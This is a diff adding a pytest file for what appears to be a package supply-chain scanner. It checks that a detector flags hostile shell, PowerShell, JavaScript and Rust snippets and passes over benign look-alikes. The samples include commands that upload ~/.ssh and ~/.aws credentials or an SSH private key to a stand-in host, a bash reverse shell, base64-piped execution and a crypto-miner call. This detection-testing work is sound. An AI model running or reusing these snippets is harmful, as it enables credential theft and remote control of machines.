@@ -1,0 +1,49 @@
+"""Scripts and sources of other languages in a package: what is found, and what is left alone."""
+
+from __future__ import annotations
+
+import pytest
+
+from mlsupply.evidence.foreign import foreign_facts, is_foreign
+
+TAKES = [
+    ("post.sh", b"#!/bin/sh\ntar czf - ~/.ssh ~/.aws/ | curl -s -T - https://x.example/\n"),
+    ("run.sh", b"set -e\necho aW1wb3J0IG9z | base64 -d | sh\n"),
+    ("back.bash", b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"),
+    ("start.ps1", b"powershell -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUA\n"),
+    ("job.sh", b"./worker -o stratum+tcp://pool.example:3333\n"),
+    ("a.js", b"const d=require('fs').readFileSync(h+'/.ssh/id_rsa');fetch('https://x.example',{method:'POST',body:d})"),
+    ("b.mjs", b"var " + b",".join(b"_0x%04x=%d" % (n, n) for n in range(80)) + b";"),
+    ("src/key.rs", b'Command::new("sh").arg("-c").arg(format!("curl -d {} https://x.example", k)).spawn();'),
+]
+LEAVES = [
+    ("install.sh", b"curl -LsSf https://astral.sh/uv/install.sh | sh\n"),
+    ("build.sh", b"set -e\ncmake -S . -B build && cmake --build build\ndocker run -it image bash -i\n"),
+    ("wait.sh", b"until (echo > /dev/tcp/$HOST/$PORT) 2>/dev/null; do sleep 1; done\n"),
+    ("deploy.sh", b"# tar ~/.ssh | curl -T - https://x.example\naws s3 cp dist s3://bucket --recursive\n"),
+    ("app.js", b"fetch('/api/contents').then(r=>r.json());const _0xabcd=1;"),
+    ("server.js", b"const {spawn}=require('child_process');spawn('git',['status']);fetch(url)"),
+    ("src/lib.rs", b'Command::new("git").arg("rev-parse").output();let u = "https://crates.io";'),
+    ("build.rs", b'println!("cargo:rerun-if-changed=build.rs"); Command::new("cmake").arg("..").status();'),
+]
+
+
+@pytest.mark.parametrize(("path", "data"), TAKES, ids=[path for path, _ in TAKES])
+def test_what_takes_hides_or_obeys_is_a_fact(path: str, data: bytes) -> None:
+    assert is_foreign(path)
+    (fact,) = foreign_facts(path, data)
+    assert (fact.behaviour, fact.member) == ("foreign-code", path)
+    assert fact.detail
+    assert fact.decoded
+
+
+@pytest.mark.parametrize(("path", "data"), LEAVES, ids=[path for path, _ in LEAVES])
+def test_ordinary_ones_are_not(path: str, data: bytes) -> None:
+    assert not list(foreign_facts(path, data))
+
+
+def test_the_line_is_named_and_other_peoples_modules_are_passed_over() -> None:
+    (fact,) = foreign_facts("post.sh", TAKES[0][1])
+    assert fact.line == 2
+    assert not is_foreign("demo/node_modules/npm/lib/config.js")
+    assert not is_foreign("demo/data.json")
